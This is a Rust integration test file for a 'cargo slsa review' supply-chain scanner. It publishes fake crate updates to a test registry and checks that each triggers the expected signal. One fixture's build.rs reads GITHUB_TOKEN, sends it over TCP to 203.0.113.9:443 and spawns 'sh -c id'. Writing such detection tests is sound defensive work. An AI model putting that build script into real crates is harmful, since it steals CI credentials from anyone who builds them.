//! `cargo slsa review`: each kind of signal from a real lockfile change against the kit's
//! registry (a build script that spawns a shell and connects out, a proc-macro flip, a binary,
//! an obfuscated literal, more unsafe, another publisher, a young transitive crate), the
//! look-alikes that must stay quiet (the same words in comments, strings and test files; a
//! renamed file), every output format, configured ignores, and crates the cache or the registry
//! serve with other bytes than the lock records.

use slsa_tests::{CrateBuilder, Env, Project, run};

use crate::{git, json, slsa};

const DAY: i64 = 86_400;

struct Fixture {
    env: Env,
    project: Project,
}

fn manifest_of(name: &str, version: &str, extra: &str) -> String {
    format!("[package]\nname = \"{name}\"\nversion = \"{version}\"\nedition = \"2021\"\n{extra}")
}

/// A workspace depending on seven crates at 1.0.0, committed; then 1.0.1 of each published
/// and locked (not committed), so `review` (against HEAD) sees seven updates and one new crate.
fn fixture() -> Fixture {
    let env = Env::new();
    let r = env.registry();
    let quiet_build = "fn main() {\n    let _ = std::process::Command::new(\"cc\").status();\n}\n";
    let helper = "pub fn h() -> u8 { unsafe { core::ptr::read(&1u8) } }\n";
    r.publish(CrateBuilder::new("shelly", "1.0.0"));
    r.publish(CrateBuilder::new("macroy", "1.0.0"));
    r.publish(CrateBuilder::new("blobby", "1.0.0"));
    r.publish(CrateBuilder::new("obfus", "1.0.0"));
    r.publish(CrateBuilder::new("unsafey", "1.0.0").file(
        "src/lib.rs",
        "pub fn a() { unsafe { f() } }\nunsafe fn f() {}\n",
    ));
    r.publish(
        CrateBuilder::new("quiet", "1.0.0")
            .file("build.rs", quiet_build)
            .file("src/lib.rs", "mod helper;\n")
            .file("src/helper.rs", helper),
    );
    r.publish(CrateBuilder::new("pubby", "1.0.0"));
    r.set_publisher("pubby", "1.0.0", "alice");
    let project = Project::new()
        .file(
            "Cargo.toml",
            "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n\n\
             [dependencies]\nshelly = \"1\"\nmacroy = \"1\"\nblobby = \"1\"\nobfus = \"1\"\n\
             unsafey = \"1\"\nquiet = \"1\"\npubby = \"1\"\n",
        )
        .file("src/lib.rs", "")
        .build();
    crate::lock_and_fetch(&env, &project);
    git(project.path(), &["init", "-q", "-b", "main"]);
    git(project.path(), &["add", "-A"]);
    git(project.path(), &["commit", "-q", "-m", "base"]);

    // The updates.
    let young = cargo_slsa::timefmt::rfc3339(cargo_slsa::timefmt::now_unix() - 2 * DAY);
    r.publish(
        CrateBuilder::new("fresh", "0.1.0")
            .pubtime(&young)
            .file("src/lib.rs", "pub fn f() {}\n"),
    );
    r.publish(
        CrateBuilder::new("shelly", "1.0.1")
            .dep("fresh", "0.1")
            .file(
                "build.rs",
                "use std::io::Write;\nfn main() {\n    let t = std::env::var(\"GITHUB_TOKEN\").unwrap_or_default();\n    \
                 let mut s = std::net::TcpStream::connect(\"203.0.113.9:443\").unwrap();\n    \
                 s.write_all(t.as_bytes()).unwrap();\n    \
                 std::process::Command::new(\"sh\").arg(\"-c\").arg(\"id\").status().unwrap();\n}\n",
            ),
    );
    r.publish(
        CrateBuilder::new("macroy", "1.0.1")
            .file(
                "Cargo.toml",
                manifest_of("macroy", "1.0.1", "\n[lib]\nproc-macro = true\n"),
            )
            .file("src/lib.rs", "// a macro\n"),
    );
    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
    elf.extend(std::iter::repeat_n(0u8, 256));
    r.publish(CrateBuilder::new("blobby", "1.0.1").file("data/payload.bin", elf));
    let encoded = format!("{}Zm9v9", "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo".repeat(8));
    r.publish(
        CrateBuilder::new("obfus", "1.0.1")
            .file(
                "src/lib.rs",
                format!(
                    "pub static P: &str = \"{encoded}\";\npub static B: &[u8] = include_bytes!(\"blob.dat\");\n"
                ),
            )
            .file("src/blob.dat", "not really\n"),
    );
    r.publish(CrateBuilder::new("unsafey", "1.0.1").file(
        "src/lib.rs",
        "pub fn a() { unsafe { f() } }\nunsafe fn f() {}\npub fn b() { unsafe { f() } }\n",
    ));
    // The look-alikes: process and network words in comments, strings and a test file, the
    // build script unchanged, and a module renamed with the same content.
    r.publish(
        CrateBuilder::new("quiet", "1.0.1")
            .file("build.rs", quiet_build)
            .file(
                "src/lib.rs",
                "// std::net::TcpStream::connect and std::process::Command::new(\"sh\")\n\
                 /// Unlike `reqwest::get`, this crate never connects.\n\
                 pub const DOC: &str = \"std::process::Command; GITHUB_TOKEN is not read\";\n\
                 mod util;\n",
            )
            .file("src/util.rs", helper)
            .file(
                "tests/net.rs",
                "#[test]\nfn t() { let _ = std::net::TcpListener::bind(\"127.0.0.1:0\"); }\n",
            ),
    );
    r.publish(CrateBuilder::new("pubby", "1.0.1"));
    r.set_publisher("pubby", "1.0.1", "mallory");
    let mut c = env.cargo(project.path());
    c.arg("update");
    run(c).assert_success();
    let mut c = env.cargo(project.path());
    c.arg("fetch");
    run(c).assert_success();
    Fixture { env, project }
}

/// The signals of each crate in a JSON report, as (code, file, line).
fn signals(report: &serde_json::Value, name: &str) -> Vec<(String, String, u64)> {
    let c = report["summary"]["crates"]
        .as_array()
        .expect("crates")
        .iter()
        .find(|c| c["name"] == name)
        .unwrap_or_else(|| panic!("{name} is not in the review: {report:#}"));
    c["signals"]
        .as_array()
        .expect("signals")
        .iter()
        .map(|s| {
            (
                s["code"].as_str().expect("code").to_string(),
                s["file"].as_str().expect("file").to_string(),
                s["line"].as_u64().expect("line"),
            )
        })
        .collect()
}

fn codes_of(report: &serde_json::Value, name: &str) -> Vec<String> {
    let mut v: Vec<String> = signals(report, name).into_iter().map(|s| s.0).collect();
    v.dedup();
    v
}

#[test]
fn every_kind_of_signal_and_no_false_alarms_on_look_alikes() {
    let f = fixture();
    let out = slsa(&f.env, f.project.path(), &["review", "--format", "json"]).assert_code(1);
    let report = json(&out);
    assert_eq!(report["summary"]["base"], "HEAD");
    let shelly = signals(&report, "shelly");
    for expected in [
        ("build-script-added", "build.rs", 1),
        ("env-secrets", "build.rs", 3),
        ("network-access", "build.rs", 4),
        ("process-spawn", "build.rs", 6),
    ] {
        assert!(
            shelly.contains(&(expected.0.into(), expected.1.into(), expected.2)),
            "{expected:?} in {shelly:?}"
        );
    }
    assert_eq!(codes_of(&report, "macroy"), vec!["proc-macro-added"]);
    assert_eq!(
        signals(&report, "blobby"),
        vec![("binary-file-added".into(), "data/payload.bin".into(), 1)]
    );
    let obfus = signals(&report, "obfus");
    assert!(
        obfus.contains(&("obfuscation".into(), "src/lib.rs".into(), 1)),
        "{obfus:?}"
    );
    assert!(
        obfus.contains(&("obfuscation".into(), "src/lib.rs".into(), 2)),
        "{obfus:?}"
    );
    assert_eq!(
        signals(&report, "unsafey"),
        vec![("unsafe-added".into(), "src/lib.rs".into(), 3)]
    );
    assert_eq!(codes_of(&report, "pubby"), vec!["publisher-changed"]);
    let fresh = codes_of(&report, "fresh");
    assert!(fresh.contains(&"new-dependency".to_string()), "{fresh:?}");
    assert!(fresh.contains(&"new-crate-young".to_string()), "{fresh:?}");
    // The look-alikes bring nothing.
    assert_eq!(signals(&report, "quiet"), vec![], "{report:#}");
    let quiet = report["summary"]["crates"]
        .as_array()
        .expect("crates")
        .iter()
        .find(|c| c["name"] == "quiet")
        .expect("quiet")
        .clone();
    assert_eq!(quiet["files_added"], 2, "{quiet}"); // util.rs, tests/net.rs
    assert_eq!(quiet["files_removed"], 1, "{quiet}"); // helper.rs
    assert_eq!(quiet["files_changed"], 2, "{quiet}"); // lib.rs, Cargo.toml
    // Findings point at the crate's entry in Cargo.lock, with the file inside the crate.
    let lock = f.project.read("Cargo.lock");
    let shelly_line = lock
        .lines()
        .position(|l| l == "name = \"shelly\"")
        .expect("shelly in the lock");
    let spawn = report["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .find(|x| x["code"] == "process-spawn")
        .expect("a process-spawn finding")
        .clone();
    assert_eq!(spawn["line"], shelly_line as u64, "{spawn}");
    assert!(
        spawn["file"]
            .as_str()
            .expect("file")
            .ends_with("Cargo.lock")
    );
    let message = spawn["message"].as_str().expect("message");
    assert!(
        message.contains("shelly 1.0.0 → 1.0.1: build.rs:6"),
        "{message}"
    );
}

#[test]
fn every_format_a_base_lock_file_and_configured_ignores() {
    let f = fixture();
    let base = f.project.join("base.lock");
    std::fs::write(&base, git(f.project.path(), &["show", "HEAD:Cargo.lock"])).expect("write");
    // Human: each signal with the crate, its file and line.
    let out = slsa(
        &f.env,
        f.project.path(),
        &["review", "--base-lock", "base.lock"],
    )
    .assert_code(1);
    assert!(out.stdout.contains("process-spawn"), "{}", out.stdout);
    assert!(
        out.stdout.contains("shelly 1.0.0 → 1.0.1"),
        "{}",
        out.stdout
    );
    // SARIF: a result per finding, rules for every code.
    let out = slsa(
        &f.env,
        f.project.path(),
        &["review", "--base-lock", "base.lock", "--format", "sarif"],
    )
    .assert_code(1);
    let sarif = json(&out);
    let results = sarif["runs"][0]["results"].as_array().expect("results");
    assert!(results.iter().any(|r| r["ruleId"] == "binary-file-added"));
    let rules = sarif["runs"][0]["tool"]["driver"]["rules"]
        .as_array()
        .expect("rules");
    assert!(rules.iter().any(|r| r["id"] == "publisher-changed"));
    // GitHub annotations.
    let out = slsa(
        &f.env,
        f.project.path(),
        &["review", "--base-lock", "base.lock", "--format", "github"],
    )
    .assert_code(1);
    assert!(out.stdout.contains("::error"), "{}", out.stdout);
    assert!(out.stdout.contains("Cargo.lock"), "{}", out.stdout);

    // Accepting the errors in configuration (a reason each) lets the review pass; warnings
    // still fail with --deny warnings.
    let manifest = f.project.read("Cargo.toml");
    f.project.write(
        "Cargo.toml",
        format!(
            "{manifest}\n[workspace.metadata.slsa.review]\nignore = [\n  \
             {{ code = \"process-spawn\", path = \"Cargo.lock\", reason = \"reviewed: runs cc\" }},\n  \
             {{ code = \"network-access\", path = \"Cargo.lock\", reason = \"reviewed\" }},\n  \
             {{ code = \"env-secrets\", path = \"Cargo.lock\", reason = \"reviewed\" }},\n  \
             {{ code = \"binary-file-added\", path = \"Cargo.lock\", reason = \"test data\" }},\n]\n"
        ),
    );
    let out = slsa(
        &f.env,
        f.project.path(),
        &["review", "--base-lock", "base.lock", "--format", "json"],
    )
    .assert_success();
    let report = json(&out);
    assert!(
        report["findings"]
            .as_array()
            .expect("findings")
            .iter()
            .all(|x| x["severity"] != "error"),
        "{report:#}"
    );
    slsa(
        &f.env,
        f.project.path(),
        &["review", "--base-lock", "base.lock", "--deny", "warnings"],
    )
    .assert_code(1);
}

#[test]
fn bytes_that_differ_from_the_lock_are_refused_and_a_crate_is_downloaded_once() {
    let f = fixture();
    // Not in cargo's cache: downloaded (checked against the lock) once, then kept.
    let cache = f.env.cargo_home().path().join("registry").join("cache");
    let mut removed = 0;
    for d in std::fs::read_dir(&cache).expect("cache").flatten() {
        let p = d.path().join("pubby-1.0.1.crate");
        if p.is_file() {
            std::fs::remove_file(&p).expect("remove");
            removed += 1;
        }
    }
    assert_eq!(removed, 1);
    let report =
        json(&slsa(&f.env, f.project.path(), &["review", "--format", "json"]).assert_code(1));
    assert_eq!(report["summary"]["downloads"], 1, "{report:#}");
    let report =
        json(&slsa(&f.env, f.project.path(), &["review", "--format", "json"]).assert_code(1));
    assert_eq!(
        report["summary"]["downloads"], 0,
        "kept after the first download"
    );

    // A cached crate with other bytes than the lock records is not read; the registry
    // serving other bytes too leaves the crate unreviewed: exit 2, named.
    let own = f.project.join("target/slsa/review");
    std::fs::remove_dir_all(&own).expect("own cache");
    for d in std::fs::read_dir(&cache).expect("cache").flatten() {
        let p = d.path().join("obfus-1.0.1.crate");
        if p.is_file() {
            std::fs::write(&p, b"tampered").expect("tamper");
        }
    }
    f.env
        .registry()
        .tamper_download("obfus", "1.0.1", b"also tampered".to_vec());
    let out = slsa(&f.env, f.project.path(), &["review", "--format", "json"]).assert_code(2);
    let report = json(&out);
    let err = report["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .find(|x| x["code"] == "input-error")
        .expect("an input error")
        .clone();
    let message = err["message"].as_str().expect("message");
    assert!(message.contains("obfus 1.0.0 → 1.0.1"), "{message}");
    assert!(message.contains("sha256 differs"), "{message}");
    // Offline, a crate that is not cached cannot be reviewed either.
    let out = slsa(
        &f.env,
        f.project.path(),
        &["review", "--offline", "--format", "json"],
    )
    .assert_code(2);
    assert!(out.stdout.contains("--offline"), "{}", out.stdout);
}

#[test]
fn a_missing_base_is_an_input_error_and_no_change_is_clean() {
    let f = fixture();
    let out = slsa(&f.env, f.project.path(), &["review", "--base", "nosuchrev"]).assert_code(2);
    assert!(out.stderr.contains("nosuchrev"), "{}", out.stderr);
    git(f.project.path(), &["add", "-A"]);
    git(f.project.path(), &["commit", "-q", "-m", "updates"]);
    let report =
        json(&slsa(&f.env, f.project.path(), &["review", "--format", "json"]).assert_success());
    assert_eq!(report["summary"]["crates"], serde_json::json!([]));
    let out = slsa(&f.env, f.project.path(), &["review"]).assert_success();
    assert!(
        out.stdout.contains("0 errors, 0 warnings"),
        "{}",
        out.stdout
    );
}

#[test]
fn check_reviews_a_pull_requests_lockfile_change_against_its_base_branch() {
    let f = fixture();
    let dir = f.project.path();
    // The base branch on a remote, the change on a pull-request branch; the checkout has not
    // fetched the base branch (as actions/checkout leaves a pull request's merge commit).
    let remote = f.env.scratch().join("origin.git");
    git(
        dir,
        &[
            "clone",
            "-q",
            "--bare",
            ".",
            remote.to_str().expect("utf-8"),
        ],
    );
    git(
        dir,
        &["remote", "add", "origin", remote.to_str().expect("utf-8")],
    );
    git(dir, &["checkout", "-q", "-b", "pr"]);
    git(dir, &["add", "-A"]);
    git(dir, &["commit", "-q", "-m", "bump"]);
    let check = |extra_env: &[(&str, &str)], args: &[&str]| {
        let mut cmd = f.env.command(crate::bin(), dir);
        cmd.args([
            "check", "--skip", "pin", "--skip", "audit", "--skip", "harden", "--format", "json",
        ])
        .args(args);
        for (k, v) in extra_env {
            cmd.env(k, v);
        }
        run(cmd)
    };
    // Not a pull request: the review part does not run, and says why.
    let report = json(&check(&[], &[]).assert_success());
    assert_eq!(
        report["summary"]["parts"]["review"]["ran"], false,
        "{report:#}"
    );
    // In a pull request: origin/main is fetched and the change reviewed.
    let out = check(&[("GITHUB_BASE_REF", "main")], &[]).assert_code(1);
    let report = json(&out);
    assert_eq!(
        report["summary"]["parts"]["review"]["ran"], true,
        "{report:#}"
    );
    assert_eq!(report["summary"]["parts"]["review"]["base"], "origin/main");
    let codes = crate::codes(&report);
    assert!(codes.contains(&"process-spawn".to_string()), "{codes:?}");
    assert!(
        codes.contains(&"binary-file-added".to_string()),
        "{codes:?}"
    );
    // --review-base names the base itself; a base that does not exist cannot pass (exit 2).
    let report = json(&check(&[], &["--review-base", "main"]).assert_code(1));
    assert_eq!(report["summary"]["parts"]["review"]["base"], "main");
    let out = check(&[("GITHUB_BASE_REF", "nosuchbranch")], &[]).assert_code(2);
    assert!(
        out.stdout.contains("review could not run"),
        "{}",
        out.stdout
    );
    // A checkout of the merge commit with `fetch-depth: 2` has the base commit the event
    // names, and nothing is fetched.
    let base_sha = git(dir, &["rev-parse", "main"]).trim().to_string();
    let event = f.env.scratch().join("event.json");
    std::fs::write(
        &event,
        serde_json::json!({"pull_request": {"base": {"sha": base_sha}}}).to_string(),
    )
    .expect("event");
    let out = check(
        &[
            ("GITHUB_BASE_REF", "renamed-upstream"),
            ("GITHUB_EVENT_PATH", event.to_str().expect("utf-8")),
        ],
        &["--offline"],
    )
    .assert_code(1);
    let report = json(&out);
    assert_eq!(
        report["summary"]["parts"]["review"]["base"],
        base_sha.as_str()
    );
}

#[test]
fn a_version_whose_checksum_changed_is_loud() {
    let f = fixture();
    // The base is the current lock with one crate's checksum different, as if its archive had
    // been replaced at the same version since.
    let lock = f.project.read("Cargo.lock");
    let sum = f
        .project
        .lock()
        .into_iter()
        .find(|p| p.name == "pubby" && p.version == "1.0.1")
        .and_then(|p| p.checksum)
        .expect("pubby's checksum");
    f.project
        .write("base.lock", lock.replace(&sum, &"a".repeat(64)));
    let out = slsa(
        &f.env,
        f.project.path(),
        &["review", "--base-lock", "base.lock", "--format", "json"],
    )
    .assert_code(2);
    let report = json(&out);
    let codes = crate::codes(&report);
    assert!(codes.contains(&"checksum-changed".to_string()), "{codes:?}");
    // The old archive cannot be had with its checksum: not compared, and said so.
    assert!(codes.contains(&"input-error".to_string()), "{codes:?}");
    assert_eq!(
        report["summary"]["crates"]
            .as_array()
            .expect("crates")
            .len(),
        1,
        "only pubby differs: {report:#}"
    );
}
